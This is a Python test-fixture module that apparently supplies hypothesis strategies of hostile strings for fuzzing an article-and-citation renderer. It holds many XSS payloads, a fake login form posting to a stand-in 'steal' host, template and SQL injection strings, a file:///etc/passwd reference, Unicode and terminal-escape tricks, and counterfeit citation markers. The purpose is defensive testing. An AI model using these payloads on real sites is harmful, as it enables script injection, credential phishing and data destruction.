"""Text that means harm wherever it is taken for more than text.

What of it runs calls ``pwned()``, which a page under test defines; what of it loads names a host
that does not exist.
"""

from __future__ import annotations

from hypothesis import strategies as st

HTML = (
    "<script>pwned()</script>",
    "</script><script>pwned()</script>",
    "<ScRiPt/x>pwned()</sCrIpT >",
    '<script src="https://elsewhere.example/x.js"></script>',
    "<img src=x onerror=pwned()>",
    '<img src="https://elsewhere.example/pixel.png" srcset="//elsewhere.example/2x.png 2x">',
    "<svg onload=pwned()><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe src=javascript:pwned()></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='pwned()'/>#x\"/></svg>",
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    "<iframe src=javascript:parent.pwned()></iframe>",
    '<object data="data:text/html,<script>pwned()</script>"></object>',
    "<embed src=https://elsewhere.example/x.swf>",
    '<base href="https://elsewhere.example/">',
    '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">',
    '<link rel="stylesheet" href="https://elsewhere.example/x.css">',
    '<form action="https://elsewhere.example/steal"><button autofocus>Log in again</button></form>',
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()><summary>Sources</summary></details>",
    "<video><source onerror=pwned()></video><audio src=x onerror=pwned()>",
    "<marquee onstart=pwned()>x</marquee>",
    "<body onload=pwned() onpageshow=pwned()>",
    "<textarea></textarea><img src=x onerror=pwned()>",
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=pwned()>">',
    "<template shadowrootmode=open><script>pwned()</script></template>",
    "<dialog open style='position:fixed;inset:0'>Your session has ended</dialog>",
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Log in again</div>",
    "<a href=javascript:pwned()>read more</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+' target=_blank>source</a>",
    "<!-- --><plaintext><xmp><listing>",
    "]]><![CDATA[<img src=x onerror=pwned()>",
    "</p></article></section></div></body></html><h1>OnRecord has moved</h1>",
)
ATTRIBUTES = (
    '" onmouseover="pwned()" x="',
    "' autofocus onfocus='pwned()' tabindex='0",
    '"><img src=x onerror=pwned()><q title="',
    "` onclick=pwned() `",
    '" style="position:fixed;inset:0;background:url(https://elsewhere.example/x.png)" x="',
    '" data-do="delete-conversation" data-open-article="x" data-ask="pwned" x="',
    "x\" formaction=javascript:pwned() popovertarget=help y='",
)
COUNTERFEITS = (
    "[1]",
    "[1][2] [3]",
    "said so. [1] Source: Corvane Wire, 3 March 2025.",
    "Source: the minister's own office [2]",
    "Citations\n[1] Corvane Wire “It is true.” characters 1–20",
    "［１］ 【2】 ⟦3⟧ [\u200b4] [ 5 ] ⁅6⁆ ¹ ² ①",
    "[1](https://elsewhere.example/) [^1] [^1]: see here",
    '<button class="chip" data-citation="1" data-exchange="1">1</button>',
    '<li id="source-1-1" data-article="x" data-start="0" data-end="9"><cite>Minister</cite></li>',
    "The articles do not say. Supported. Not supported: why.",
    "You asked: is it true? Answer: yes.",
)
MARKDOWN = (
    "![x](https://elsewhere.example/x.png)",
    "[read on](javascript:pwned())",
    "[read on](data:text/html,<script>pwned()</script>)",
    "<https://elsewhere.example/> <javascript:pwned()>",
    "# Heading\n\n| a | b |\n|---|---|\n| c | d |",
    "```html\n<script>pwned()</script>\n``` ~~~ ****bold**** __x__ ~~y~~",
    "[x]: https://elsewhere.example/ 'x'\n[x]",
    "> quote\n\n1. one\n\n---\n\n- [ ] task",
)
FORMULAS = (
    r"$\href{javascript:pwned()}{x}$",
    r"$$\includegraphics{https://elsewhere.example/x.png}$$",
    r"\(\htmlData{do=delete}{x}\) \[\unicode{x3c}script\]",
    r"$\require{html}\class{chip}{1} \style{position:fixed}{x} \color{white}$",
)
ADDRESSES = (
    "https://elsewhere.example/path?x=1#y",
    "//elsewhere.example/x www.elsewhere.example mailto:a@elsewhere.example",
    "javascript:pwned()",
    "JaVaScRiPt\t:pwned()//\njava\nscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "vbscript:pwned file:///etc/passwd blob:null/x view-source:x",
)
CHARACTERS = (
    "a\x00b\x07c\x08d\x7fe\x9b31mf",
    "\x1b]8;;https://elsewhere.example/\x07link\x1b]8;;\x07 \x1b[2J\x1b[31m",
    "one\r\ntwo\rthree\x0bfour\x0cfive\x85six\u2028seven\u2029eight",
    "safe\u202etxt.exe\u202c \u2066x\u2067y\u2069 \u200fz\u061c",
    "ze\u200bro\u200c\u200d\u2060wi\ufeffdth\u00ad \u3164\u115f\u2800 \U000e0041\U000e007f",
    "z\u0351\u0342\u0361a\u0338\u0336l\u0489g\u20dd\u20e3o" + "\u0301" * 40,
    "\ufdd0\uffff\ufffe \ue000 \U000f0000 \ud7ff\ufffd",
    "＜ｓｃｒｉｐｔ＞ｐｗｎｅｄ（）＜／ｓｃｒｉｐｔ＞ ‹img› ﹤b﹥",
    "&lt;img src=x onerror=pwned()&gt; &#60;b&#62; &amp;lt;i&amp;gt; &colon; &NewLine;",
    r"%3Cscript%3Epwned()%3C/script%3E \u003cscript\u003e \x3cscript\x3e +ADw-script+AD4-",
    "W" * 300,
    "👩‍👩‍👧‍👦🏴‍☠️ ﷽ 𒐫 ꧅",
)
TEMPLATES = (
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()} ${value} `${alert(1)}` #{pwned()}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {{ config }}",
    "<%= pwned() %> <? pwned() ?> {{#each x}}{{/each}} {@html pwned()} {value} %s %(x)s {0}",
    'datum[\'x\'] signal(\'pwned\') {"signal": "pwned()"} {"url": "//elsewhere.example"}',
    '","html":"<img src=x onerror=pwned()>","x":"\\u003cb\\u003e',
    "__proto__ constructor toString hasOwnProperty null undefined NaN",
    "'; DROP TABLE articles; -- \" OR 1=1 * NEAR( a MATCH",
)
STYLES = (
    "</style><style>*{display:none!important}</style>",
    "} body{display:none} @import url(https://elsewhere.example/x.css);",
    "position:fixed;inset:0;background:url(https://elsewhere.example/x.png);",
    "expression(pwned()) -moz-binding:url(//elsewhere.example/x.xml#y) behavior:url(#x)",
)

HOSTILE = (
    *HTML,
    *ATTRIBUTES,
    *COUNTERFEITS,
    *MARKDOWN,
    *FORMULAS,
    *ADDRESSES,
    *CHARACTERS,
    *TEMPLATES,
    *STYLES,
)

_FRAGMENTS = (
    "<img src=x onerror=alert(1)>",
    "</p></section><script>alert(1)</script>",
    "[1] and [ 2 ] and [3,4]",
    "[\u200b1\u200d] [\x1b[0m2]",
    "\x1b]0;title\x07\x1b[31mred\x1b[0m\x9b2J",
    "\u202egnisrever\u2066",
    "[red]bold[/red]",
    "![x](https://example.org/x.png) https://example.org www.example.org",
    "`code` ```\n# heading\n- item\n1. one\n***",
    "$x$ $$y$$ \\(z\\) \\[w\\] ${value} {{value}} {% raw %}",
    "&lt;b&gt; &amp; &#91;1&#93;",
    "a\x00b\rc\u2028d\ud800e",
    "| a | b |\n|---|---|",
    "<!-- ",
    "[1]: javascript:alert(1)",
    "",
)
hostile_text = st.one_of(
    st.text(st.characters(), max_size=60),
    st.text(
        st.sampled_from(list("[]()<>&\"'`*_#$\\{}|~!+-=.:/@ \n\t1aé\x1b\x07\u200b\u202e")),
        max_size=40,
    ),
    st.sampled_from(_FRAGMENTS),
)
"""What an article, a file name or a person may hold: anything, and mostly what acts."""
